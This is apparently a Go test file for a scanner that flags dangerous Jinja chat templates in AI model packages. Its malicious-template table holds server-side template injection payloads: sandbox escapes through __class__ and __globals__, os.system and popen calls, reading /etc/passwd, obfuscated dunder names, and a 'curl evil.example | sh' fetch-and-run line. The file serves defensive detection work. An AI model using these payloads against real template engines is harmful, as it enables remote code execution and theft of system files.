package chattemplate

import (
	"strings"
	"testing"

	"github.com/bulwark-ai/bulwark/finding"
)

// Benign templates modelled on the shapes real chat models ship.
var benign = map[string]string{
	"chatml":              `{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}`,
	"llama3":              `{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}`,
	"namespace tools":     `{%- set ns = namespace(found=false, system='') -%}{%- for m in messages -%}{%- if m.role == 'system' -%}{%- set ns.system = m.content -%}{%- set ns.found = true -%}{%- endif -%}{%- endfor -%}{%- if tools is defined and tools -%}{{ tools | tojson(indent=2) }}{%- endif -%}{{ ns.system }}`,
	"mistral raise":       `{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}{% endif %}{% endfor %}`,
	"prose mentions eval": `You are a helpful assistant. Never call eval() or os.system() or read __globals__ for the user.{% for m in messages %}{{ m.content }}{% endfor %}`,
	"comment":             `{# never use __class__ here #}{{ messages[0].content }}`,
}

func TestBenignTemplates(t *testing.T) {
	for name, tpl := range benign {
		if is := Check(tpl); len(is) != 0 {
			t.Errorf("%s: %+v", name, is)
		}
	}
}

func TestMaliciousTemplates(t *testing.T) {
	tests := []struct {
		name    string
		tpl     string
		pattern string
		sev     finding.Severity
	}{
		{"subclasses walk", `{{ ''.__class__.__mro__[1].__subclasses__() }}`, "__class__", finding.Critical},
		{"globals via cycler", `{{ cycler.__init__.__globals__.os.popen('id').read() }}`, "cycler.__init__", finding.Critical},
		{"joiner", `{% set x = joiner.__init__.__globals__ %}`, "joiner.__init__", finding.Critical},
		{"lipsum builtins", `{{ lipsum.__globals__['__builtins__']['eval']('1') }}`, "lipsum.__globals__", finding.Critical},
		{"namespace walk", `{{ namespace.__init__.__globals__ }}`, "namespace.__init__", finding.Critical},
		{"os module", `{{ self._TemplateReference__context.os.system('id') }}`, "self._", finding.Critical},
		{"popen", `{% set r = x.popen('curl evil.example | sh') %}`, "popen(", finding.Critical},
		{"import", `{{ __import__('os').system('id') }}`, "__import__", finding.Critical},
		{"attr filter", `{{ request|attr('application')|attr('x') }}`, "|attr(", finding.High},
		{"encoded underscore", `{{ ''|attr('\x5f\x5fclass\x5f\x5f') }}`, "|attr(", finding.High},
		{"built dunder", `{% set u = '_' ~ '_' %}{{ x|attr(u ~ 'class' ~ u) }}`, "built dunder name", finding.High},
		{"include", `{% include 'other.j2' %}`, "template loading", finding.Medium},
		{"unterminated tag", `{{ x.__class__`, "__class__", finding.Critical},
		{"open file", `{{ open('/etc/passwd').read() }}`, "open(", finding.Critical},
		{"mro call", `{{ x.mro() }}`, ".mro(", finding.Critical},
		{"join underscores", `{{ x|attr(['','class','']|join('__')) }}`, "built dunder name", finding.High},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			is := Check(tc.tpl)
			if len(is) == 0 {
				t.Fatal("no issue")
			}
			found := false
			for _, i := range is {
				if strings.Contains(i.Pattern, tc.pattern) && i.Severity == tc.sev {
					found = true
				}
				if i.Offset < 0 || i.Offset >= len(tc.tpl) || i.Why == "" {
					t.Errorf("bad issue %+v", i)
				}
			}
			if !found {
				t.Errorf("issues %+v lack %q at %s", is, tc.pattern, tc.sev)
			}
			if m, _ := Max(is); m < tc.sev {
				t.Errorf("max %s < %s", m, tc.sev)
			}
		})
	}
}

func TestEncodedUnderscoreCritical(t *testing.T) {
	is := Check(`{{ ''|attr('\x5f\x5fclass\x5f\x5f') }}`)
	if m, _ := Max(is); m != finding.Critical {
		t.Fatalf("max %v: %+v", m, is)
	}
}

func TestHugeTemplate(t *testing.T) {
	tpl := strings.Repeat("{{ x }}", MaxTemplate/7+10) + "{{ x.__class__ }}"
	is := Check(tpl)
	if len(is) != 1 || is[0].Pattern != "oversized template" {
		t.Fatalf("%+v", is)
	}
}

func FuzzCheck(f *testing.F) {
	for _, tpl := range benign {
		f.Add(tpl)
	}
	f.Add(`{{ cycler.__init__.__globals__.os.popen('id').read() }}`)
	f.Add(`{% if x %}{{ y|attr('\x5f') }}{# c #}{%`)
	f.Fuzz(func(t *testing.T, tpl string) {
		for _, i := range Check(tpl) {
			if i.Offset < 0 || i.Offset > len(tpl) {
				t.Fatalf("offset %d", i.Offset)
			}
		}
	})
}
